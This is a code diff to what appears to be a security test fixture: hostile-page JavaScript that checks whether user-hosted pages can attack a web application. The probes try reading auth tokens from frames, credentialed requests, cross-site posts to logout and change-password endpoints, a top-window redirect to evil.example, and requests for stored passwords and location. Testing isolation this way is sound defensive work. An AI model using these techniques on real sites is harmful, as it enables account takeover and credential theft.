@@ -1,6 +1,8 @@
 // oxlint-disable no-alert, typescript/no-deprecated, unicorn/prefer-add-event-listener, typescript/no-unsafe-argument, typescript/no-unsafe-assignment, typescript/no-unsafe-call, typescript/no-unsafe-member-access
 // oxlint-disable typescript/no-unsafe-return, no-undef -- because it is the custom JavaScript of a hostile page, and runs as it stands
 (() => {
+  // the application is on a host of its own, so every attack names it
+  const app = new URL("/", document.baseURI).origin.replace("//pages.", "//");
   const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
   const within = (promise) => Promise.race([promise, wait(1500)]);
   const frame = async (set) => {
@@ -11,12 +13,12 @@
     const held = () => [element.contentWindow.localStorage.auth_token, element.contentDocument?.body?.innerText];
     return held().join("");
   };
-  const text = async (path, options) => (await fetch(path, options)).text();
-  const script = `postMessage("worker " + (self.indexedDB ? "ran" : "")); fetch("/v1/widget/link", {credentials: "include"}).then((r) => r.text()).then(postMessage, () => {})`;
+  const text = async (path, options) => (await fetch(app + path, options)).text();
+  const script = `postMessage("worker " + (self.indexedDB ? "ran" : "")); fetch("${app}/v1/widget/link", {credentials: "include"}).then((r) => r.text()).then(postMessage, () => {})`;
   const heard = (target, only) =>
     within(new Promise((resolve) => (target.onmessage = ({ data }) => (only(data) ? resolve(data) : undefined))));
   const popup = async (path, read) => {
-    const opened = window.open(path);
+    const opened = window.open(path.startsWith("/") ? app + path : path);
     await wait(700);
     try {
       return read(opened);
@@ -26,7 +28,7 @@
   };
   const form = (action, fields) => {
     const element = document.createElement("form");
-    Object.assign(element, { action, method: "post", enctype: "text/plain" });
+    Object.assign(element, { action: app + action, method: "post", enctype: "text/plain" });
     const target = document.createElement("iframe");
     element.target = target.name = `target${Math.random()}`;
     for (const [name, value] of Object.entries(fields)) {
@@ -73,18 +75,18 @@
     XMLHttpRequest: () =>
       new Promise((resolve, reject) => {
         const request = new XMLHttpRequest();
-        request.open("GET", "/v1/widget/link");
+        request.open("GET", `${app}/v1/widget/link`);
         Object.assign(request, { withCredentials: true, onload: () => resolve(request.responseText), onerror: reject });
         request.send();
       }),
     "simple posts": async () => {
       const body = `${steal}"}`;
       for (const path of ["/v1/widget/link", "/users/logout", "/v1/appearance", "/v1/auth/change-password"])
-        await fetch(path, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => {});
+        await fetch(app + path, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => {});
     },
     beacons: () => {
       for (const path of ["/v1/widget/link", "/users/logout", "/v1/appearance", "/v1/auth/change-password"])
-        navigator.sendBeacon(path, `${steal}"}`);
+        navigator.sendBeacon(app + path, `${steal}"}`);
     },
     forms: async () => {
       for (const path of ["/v1/widget/link", "/users/logout", "/v1/appearance", "/v1/auth/change-password"])
@@ -99,14 +101,14 @@
       top.location = "https://evil.example/";
       await wait(300);
     },
-    "framing the dashboard": () => frame((each) => (each.src = "/dashboard")),
-    "framing a message": () => frame((each) => (each.src = "/nobody-is-called-so")),
-    "framing a script of ours": () => frame((each) => (each.src = "/openapi.json")),
+    "framing the dashboard": () => frame((each) => (each.src = `${app}/dashboard`)),
+    "framing a message": () => frame((each) => (each.src = `${app}/nobody-is-called-so`)),
+    "framing a script of ours": () => frame((each) => (each.src = `${app}/openapi.json`)),
     "an empty frame": () => frame((each) => (each.src = "about:blank")).then((got) => got && `empty ${got}`),
     "a frame that allows itself everything": () =>
       frame((each) => {
         each.setAttribute("sandbox", "allow-scripts allow-same-origin");
-        each.src = "/";
+        each.src = `${app}/`;
       }),
     "a frame with text of its own": () =>
       frame((each) => {
@@ -138,6 +140,10 @@
     "a shared worker": () => heard(new SharedWorker("/sw.js").port, () => true),
     "channels of the app": () => heard(new BroadcastChannel("app"), () => true),
     "waiting for locks": async () => JSON.stringify((await navigator.locks.query()).held),
+    "the address of sign-in": () => {
+      history.replaceState(null, "", `${app}/login`);
+      return location.href;
+    },
     "a wider domain": () => ((document.domain = location.hostname), document.domain === location.hostname && "set"),
     "modules of the app": async () =>
       Object.keys(await import(new URL("/assets/none.js", document.baseURI).href)).length > 0 &&
@@ -145,10 +151,10 @@
     "a web socket": () =>
       within(
         new Promise((resolve, reject) =>
-          Object.assign(new WebSocket(`ws://${location.host}/v1/changes`), { onopen: resolve, onerror: reject }),
+          Object.assign(new WebSocket(`${app.replace("http", "ws")}/v1/changes`), { onopen: resolve, onerror: reject }),
         ),
       ),
-    "live changes": () => heard(new EventSource("/v1/changes", { withCredentials: true }), () => true),
+    "live changes": () => heard(new EventSource(`${app}/v1/changes`, { withCredentials: true }), () => true),
     passwords: async () => (await within(navigator.credentials.get({ password: true })))?.id,
     "asking for the place": () =>
       within(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
